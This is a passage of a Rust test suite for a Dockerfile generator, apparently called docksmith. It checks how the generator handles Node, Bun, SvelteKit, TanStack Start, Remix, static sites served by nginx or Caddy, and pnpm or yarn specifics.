        dockerfile.contains("npm ci --omit=dev --ignore-scripts \\\n    && npm rebuild bcrypt \\\n    && find . -path '*/node_modules/*/build/Release/*'"),
        "{dockerfile}"
    );
    assert!(stderr.contains("runs prepare at install"), "{stderr}");
    // The project itself is not a native module (its lockfile entry is "").
    assert!(!dockerfile.contains("rebuild ''"), "{dockerfile}");
}

#[test]
fn sveltekit_follows_its_adapter() {
    let kit = |adapter: &str| {
        format!(
            "{{\"name\": \"kit\", \"scripts\": {{\"build\": \"vite build\"}}, \"devDependencies\": {{\"@sveltejs/kit\": \"2.0.0\", \"@sveltejs/{adapter}\": \"5.0.0\", \"vite\": \"5.4.0\"}}}}"
        )
    };
    let lock = ("package-lock.json", "{\"lockfileVersion\": 3}\n");
    // adapter-node: a Node server in build/.
    let package = kit("adapter-node");
    let (dockerfile, _) = generate_ok(&[("package.json", &package), lock], &[]);
    assert!(dockerfile.contains("\"build/index.js\""), "{dockerfile}");
    // adapter-static: a static site in build/, not Vite's dist/.
    let package = kit("adapter-static");
    let (dockerfile, _) = generate_ok(&[("package.json", &package), lock], &[]);
    assert!(dockerfile.contains("/app/build/"), "{dockerfile}");
    assert!(dockerfile.contains("nginx"), "{dockerfile}");
    // A platform adapter: refused with the fix, never a site from a dist/ that will not exist.
    let package = kit("adapter-vercel");
    let dir = project(&[("package.json", &package), lock]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .failure()
        .stderr(predicate::str::contains("use @sveltejs/adapter-node"));
}

#[test]
fn tanstack_start_runs_the_nitro_server_its_build_writes() {
    // Read as a Vite static site before: nginx over a dist/ that holds no index.html.
    let start = |extra: &str| {
        format!(
            "{{\"name\": \"start\", \"type\": \"module\", \"scripts\": {{\"build\": \"vite build\"}}, \"dependencies\": {{\"@tanstack/react-start\": \"1.169.5\", \"react\": \"19.2.0\"}}, \"devDependencies\": {{\"vite\": \"8.0.0\"{extra}}}}}"
        )
    };
    let lock = ("package-lock.json", "{\"lockfileVersion\": 3}\n");
    // Nitro 3's Vite plugin: the Node server in .output/.
    let package = start(", \"nitro\": \"3.0.260903-beta\"");
    let (dockerfile, _) = generate_ok(&[("package.json", &package), lock], &[]);
    assert!(
        dockerfile.contains("\".output/server/index.mjs\""),
        "{dockerfile}"
    );
    assert!(!dockerfile.contains("nginx"), "{dockerfile}");
    // 1.121–1.131 bundled Nitro for the plugin's target.
    let package = start("");
    let config = (
        "vite.config.ts",
        "export default defineConfig({\n  plugins: [tanstackStart({ target: 'node-server' })],\n})\n",
    );
    let (dockerfile, _) = generate_ok(&[("package.json", &package), lock, config], &[]);
    assert!(
        dockerfile.contains("\".output/server/index.mjs\""),
        "{dockerfile}"
    );
    // Later versions without Nitro build a fetch handler only: refused with the fix.
    let dir = project(&[("package.json", &package), lock]);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .failure()
        .stderr(predicate::str::contains("add Nitro"));
}

#[test]
fn yarn_classic_installs_lock_their_shared_cache() {
    // The deps and prod-deps stages run at once; yarn 1's cache is not safe for two
    // writers (integrity errors), npm's is.
    let package = "{\"name\": \"a\", \"scripts\": {\"build\": \"node build.js\", \"start\": \"node server.js\"}, \"dependencies\": {\"express\": \"4.21.2\"}}";
    let (dockerfile, _) = generate_ok(
        &[
            ("package.json", package),
            ("yarn.lock", "# yarn lockfile v1\n"),
            ("build.js", "console.log('built');\n"),
            SERVER,
        ],
        &[],
    );
    assert_eq!(
        dockerfile
            .matches("--mount=type=cache,target=/usr/local/share/.cache/yarn,sharing=locked")
            .count(),
        2,
        "{dockerfile}"
    );
    let (dockerfile, _) = generate_ok(
        &[
            ("package.json", package),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            ("build.js", "console.log('built');\n"),
            SERVER,
        ],
        &[],
    );
    assert!(!dockerfile.contains("/root/.npm,sharing"), "{dockerfile}");
}

#[test]
fn a_package_without_start_runs_its_production_script_or_its_bin() {
    let lock = ("package-lock.json", "{\"lockfileVersion\": 3}\n");
    // A `start:prod` script when there is no `start`.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start:prod\": \"node server/server.js\"}}",
            ),
            lock,
            ("server/server.js", SERVER.1),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("CMD [\"server/server.js\"]"),
        "{dockerfile}"
    );
    // A command-line program: its bin, with `docker run` arguments passed to it.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"tool\", \"bin\": {\"tool\": \"./cli.js\"}}",
            ),
            lock,
            ("cli.js", "console.log(process.argv);\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("\"/nodejs/bin/node\", \"cli.js\"]"),
        "{dockerfile}"
    );
    assert!(!dockerfile.contains("CMD"), "{dockerfile}");
}

#[test]
fn a_procfile_web_process_is_the_start_command() {
    // The Procfile states how the project starts in production; the start script
    // here runs a development watcher.
    let files = [
        (
            "package.json",
            "{\"name\": \"a\", \"scripts\": {\"start\": \"nodemon lib/app.js\"}}",
        ),
        ("package-lock.json", "{}\n"),
        (
            "Procfile",
            "release: node lib/migrate.js\nweb: node --enable-source-maps lib/app.js\n",
        ),
        (
            "lib/app.js",
            "require('http').createServer().listen(process.env.PORT || 4100);\n",
        ),
    ];
    let (dockerfile, _) = generate_ok(&files, &[]);
    assert!(
        dockerfile.contains("CMD [\"--enable-source-maps\", \"lib/app.js\"]"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("EXPOSE 4100"), "{dockerfile}");
    // A process that names a script is that script; one that is not node is left to
    // package.json.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"web\": \"node lib/app.js\", \"start\": \"node lib/dev.js\"}}",
            ),
            ("package-lock.json", "{}\n"),
            ("Procfile", "web: npm run web\n"),
            (
                "lib/app.js",
                "require('http').createServer().listen(4100);\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("CMD [\"lib/app.js\"]"), "{dockerfile}");
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start\": \"node lib/app.js\"}}",
            ),
            ("package-lock.json", "{}\n"),
            ("Procfile", "web: bin/boot\n"),
            (
                "lib/app.js",
                "require('http').createServer().listen(4100);\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("CMD [\"lib/app.js\"]"), "{dockerfile}");
}

#[test]
fn bun_projects_install_and_run_on_the_bun_images() {
    // `bun init`: bun.lock, the entry in `module`, TypeScript run as it is.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"b\", \"module\": \"index.ts\", \"dependencies\": {\"hono\": \"4\"}}",
            ),
            ("bun.lock", "{}\n"),
            (
                "index.ts",
                "Bun.serve({ port: 3100, fetch: () => new Response('ok') });\n",
            ),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("FROM oven/bun:1 AS prod-deps"),
        "{dockerfile}"
    );
    assert!(!dockerfile.contains("npm install --global"), "{dockerfile}");
    assert!(
        dockerfile.contains("FROM oven/bun:1-distroless"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("ENTRYPOINT [\"/usr/bin/tini\", \"--\", \"/usr/local/bin/bun\"]"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("CMD [\"index.ts\"]"), "{dockerfile}");
    assert!(dockerfile.contains("EXPOSE 3100"), "{dockerfile}");
    // A start script that runs bun, installed by npm: node installs, bun runs.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"b\", \"scripts\": {\"start\": \"bun run src/server.ts\"}}",
            ),
            ("package-lock.json", "{}\n"),
            (
                "src/server.ts",
                "Bun.serve({ port: 3100, fetch: () => new Response('ok') });\n",
            ),
        ],
        &["--flavor", "slim"],
    );
    assert!(
        dockerfile.contains("FROM node:24-bookworm-slim AS prod-deps"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("FROM oven/bun:1-slim"), "{dockerfile}");
    assert!(
        dockerfile.contains("CMD [\"src/server.ts\"]"),
        "{dockerfile}"
    );
    // Installed by Bun, started by an explicit node command: node runs it.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"b\", \"packageManager\": \"bun@1.2.4\", \"scripts\": {\"start\": \"node server.js\"}}",
            ),
            ("bun.lock", "{}\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("FROM oven/bun:1 AS prod-deps"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("FROM gcr.io/distroless/nodejs"),
        "{dockerfile}"
    );
}

#[test]
fn a_node_too_old_for_the_package_manager_is_raised_with_a_warning() {
    // .nvmrc pins Node 16; pnpm 9 (lockfile 9.0) needs Node 18.12: corepack would
    // refuse to run it, so the install step is known to fail on Node 16.
    let (dockerfile, stderr) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
            ),
            ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
            (".nvmrc", "16\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("FROM node:18-bookworm-slim"),
        "{dockerfile}"
    );
    assert!(
        stderr.contains("pnpm 9.15.9 needs Node 18 or newer"),
        "{stderr}"
    );
    // Node 18 pinned with pnpm 8: nothing to say.
    let (dockerfile, stderr) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"a\", \"scripts\": {\"start\": \"node server.js\"}}",
            ),
            ("pnpm-lock.yaml", "lockfileVersion: '6.0'\n"),
            (".nvmrc", "18\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("FROM node:18-bookworm-slim"),
        "{dockerfile}"
    );
    assert!(!stderr.contains("needs Node"), "{stderr}");
}

#[test]
fn pnpm_reads_package_yaml_and_package_json5() {
    // pnpm accepts the manifest as YAML or JSON5 in place of package.json.
    let yaml =
        "name: yaml-app\nscripts:\n  start: node server.js\ndependencies:\n  fastify: \"5\"\n";
    let (dockerfile, _) = generate_ok(
        &[
            ("package.yaml", yaml),
            ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY package.yaml pnpm-lock.yaml ./"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("CMD [\"server.js\"]"), "{dockerfile}");
    assert!(
        dockerfile.contains("org.opencontainers.image.title=\"yaml-app\""),
        "{dockerfile}"
    );
    let json5 = "// JSON5: comments, unquoted keys, trailing commas\n{\n  name: 'json5-app',\n  scripts: { start: 'node server.js', },\n}\n";
    let (dockerfile, _) = generate_ok(
        &[
            ("package.json5", json5),
            ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
            SERVER,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY package.json5 pnpm-lock.yaml ./"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("org.opencontainers.image.title=\"json5-app\""),
        "{dockerfile}"
    );
}

/// A Vite site with no server configuration of its own.
const VITE_SITE: [(&str, &str); 3] = [
    (
        "package.json",
        "{\"name\": \"s\", \"scripts\": {\"build\": \"vite build\"}, \"devDependencies\": {\"vite\": \"7\"}}",
    ),
    ("package-lock.json", "{}\n"),
    ("index.html", "<!doctype html>\n"),
];

#[test]
fn a_static_site_is_served_with_its_own_nginx_server_block() {
    let site = VITE_SITE;
    // A port the unprivileged image may bind, and a root of its own: kept.
    let mut files = site.to_vec();
    files.push((
        "nginx/default.conf",
        "server {\n  listen 8081;\n  root /srv/www;\n  location /api/ { proxy_pass http://api:3000; }\n}\n",
    ));
    let (dockerfile, stderr) = generate_ok(&files, &[]);
    assert!(
        dockerfile.contains("cat nginx/default.conf > /tmp/site.conf"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("COPY --from=build /app/dist/ /srv/www/"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("EXPOSE 8081"), "{dockerfile}");
    assert!(
        stderr.contains("passes requests to another server"),
        "{stderr}"
    );
    // A whole nginx.conf would replace the image's own: said, and not used.
    let mut files = site.to_vec();
    files.push((
        "nginx.conf",
        "events {}\nhttp {\n  server {\n    listen 80;\n  }\n}\n",
    ));
    let (dockerfile, stderr) = generate_ok(&files, &[]);
    assert!(dockerfile.contains("printf"), "{dockerfile}");
    assert!(
        stderr.contains("nginx.conf is a whole nginx configuration"),
        "{stderr}"
    );
    // TLS needs certificates the image lacks.
    let mut files = site.to_vec();
    files.push(("default.conf", "server {\n  listen 443 ssl;\n}\n"));
    let (dockerfile, stderr) = generate_ok(&files, &[]);
    assert!(dockerfile.contains("printf"), "{dockerfile}");
    assert!(stderr.contains("listens with TLS"), "{stderr}");
}

#[test]
fn a_staticfile_names_the_folder_served_and_the_fallback() {
    // Cloud Foundry's Staticfile: `root` is the folder deployed (the build's output
    // when the builder's config does not say), `pushstate: enabled` answers client-side
    // routes with index.html, and without it a missing file is a 404.
    let package = (
        "package.json",
        "{\"name\": \"s\", \"scripts\": {\"build\": \"react-scripts build && cp -r build public_html\"}, \"dependencies\": {\"react-scripts\": \"5\"}}",
    );
    let lock = ("package-lock.json", "{}\n");
    let (dockerfile, _) = generate_ok(
        &[
            package,
            lock,
            ("Staticfile", "root: public_html\npushstate: enabled\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY --from=build /app/public_html/ /usr/share/nginx/html/"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("/index.html; } }"), "{dockerfile}");
    let (dockerfile, _) = generate_ok(&[package, lock, ("Staticfile", "gzip: on\n")], &[]);
    assert!(
        dockerfile.contains("COPY --from=build /app/build/ /usr/share/nginx/html/"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("=404; } }"), "{dockerfile}");
    // A Staticfile declares a static site whatever starts it locally: a Next.js static
    // export (`next build` writes out/) is not `next start`.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"s\", \"scripts\": {\"build\": \"next build\", \"start\": \"next start\"}, \"dependencies\": {\"next\": \"15\"}}",
            ),
            lock,
            ("Staticfile", "root: out\npushstate: enabled\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("COPY --from=build /app/out/ /usr/share/nginx/html/"),
        "{dockerfile}"
    );
}

#[test]
fn a_static_site_is_served_by_caddy_with_its_own_caddyfile() {
    let site = VITE_SITE;
    // An unprivileged port and a relative root (inside caddy's /srv): used as they are,
    // by a non-root user whose state goes to a folder it may write.
    let mut files = site.to_vec();
    files.push(("Caddyfile", ":8081 {\n  root * public\n  file_server\n}\n"));
    let (dockerfile, _) = generate_ok(&files, &[]);
    for line in [
        "cat Caddyfile > /tmp/site.conf",
        "FROM caddy:2\n",
        "COPY --from=build /app/dist/ /srv/public/",
        "COPY --from=build /tmp/site.conf /etc/caddy/Caddyfile",
        "ENV XDG_DATA_HOME=\"/tmp/caddy\"",
        "USER 65532:65532",
        "EXPOSE 8081",
    ] {
        assert!(dockerfile.contains(line), "{line}: {dockerfile}");
    }
    let (dockerfile, _) = generate_ok(&files, &["--flavor", "alpine"]);
    assert!(dockerfile.contains("FROM caddy:2-alpine"), "{dockerfile}");
    assert!(dockerfile.contains("adduser -S"), "{dockerfile}");
    // A domain gets automatic HTTPS (ports 80 and 443, certificates from the
    // internet): said, and docksmith's nginx serves the site.
    let mut files = site.to_vec();
    files.push(("Caddyfile", "example.com {\n  file_server\n}\n"));
    let (dockerfile, stderr) = generate_ok(&files, &[]);
    assert!(dockerfile.contains("nginx-unprivileged"), "{dockerfile}");
    assert!(stderr.contains("automatic HTTPS"), "{stderr}");
    // nginx's server block comes first when a project ships both.
    let mut files = site.to_vec();
    files.push(("Caddyfile", ":80\nfile_server\n"));
    files.push(("nginx.conf", "server {\n  listen 8082;\n}\n"));
    let (dockerfile, _) = generate_ok(&files, &[]);
    assert!(dockerfile.contains("EXPOSE 8082"), "{dockerfile}");
}

#[test]
fn a_workspace_package_shipped_as_typescript_source_is_said() {
    // turborepo's "internal packages": main/exports name .ts files, compiled only by
    // the consumer's bundler; a tsc-built server run by node cannot import them.
    let files = [
        (
            "package.json",
            "{\"name\": \"mono\", \"private\": true, \"workspaces\": [\"apps/*\", \"packages/*\"]}",
        ),
        ("package-lock.json", "{}\n"),
        (
            "apps/api/package.json",
            "{\"name\": \"api\", \"scripts\": {\"build\": \"tsc\", \"start\": \"node dist/index.js\"}, \"dependencies\": {\"@repo/ui\": \"*\"}}",
        ),
        ("apps/api/src/index.ts", "import { x } from '@repo/ui';\n"),
        (
            "packages/ui/package.json",
            "{\"name\": \"@repo/ui\", \"exports\": {\".\": \"./src/index.ts\"}}",
        ),
        ("packages/ui/src/index.ts", "export const x = 1;\n"),
    ];
    let (_, stderr) = generate_ok(&files, &[]);
    assert!(
        stderr.contains("api imports @repo/ui, whose entry ./src/index.ts is TypeScript source"),
        "{stderr}"
    );
}

#[test]
fn remix_serves_the_server_build_its_start_script_names() {
    // Remix 2 on Vite writes build/server/index.js; Remix 1 build/index.js.
    let remix = |start: &str| {
        let manifest = format!(
            "{{\"name\": \"r\", \"scripts\": {{\"build\": \"remix vite:build\", \"start\": \"{start}\"}}, \"dependencies\": {{\"@remix-run/serve\": \"2\"}}}}"
        );
        generate_ok(
            &[("package.json", &manifest), ("package-lock.json", "{}\n")],
            &[],
        )
        .0
    };
    let dockerfile = remix("remix-serve ./build/server/index.js");
    assert!(
        dockerfile.contains(
            "CMD [\"node_modules/@remix-run/serve/dist/cli.js\", \"build/server/index.js\"]"
        ),
        "{dockerfile}"
    );
    let dockerfile = remix("remix-serve build/index.js");
    assert!(dockerfile.contains("\"build/index.js\"]"), "{dockerfile}");
    // Nitro's node preset, as SolidStart and Analog use it.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"n\", \"scripts\": {\"build\": \"nitro build\"}, \"dependencies\": {\"nitropack\": \"2\"}}",
            ),
            ("package-lock.json", "{}\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("CMD [\".output/server/index.mjs\"]"),
        "{dockerfile}"
    );
}

#[test]
fn a_local_dependency_outside_the_project_is_said_like_gos_replace() {
    let (_, stderr) = generate_ok(
        &[
            (
                "package.json",
                "{\"name\": \"web\", \"scripts\": {\"start\": \"node server.js\"}, \"dependencies\": {\"shared\": \"file:../shared\", \"ui\": \"file:./libs/ui\"}}",
            ),
            ("package-lock.json", "{\"lockfileVersion\": 3}\n"),
            ("server.js", "require('http').createServer().listen(3000)\n"),
            ("libs/ui/package.json", "{\"name\": \"ui\"}"),
        ],
        &[],
    );
    assert!(
        stderr.contains("shared is file:../shared, outside the build context")
            && stderr.contains("(package.json)"),
        "{stderr}"
    );
    // A folder inside the project is part of the build context.
    assert!(!stderr.contains("ui is file:"), "{stderr}");
}
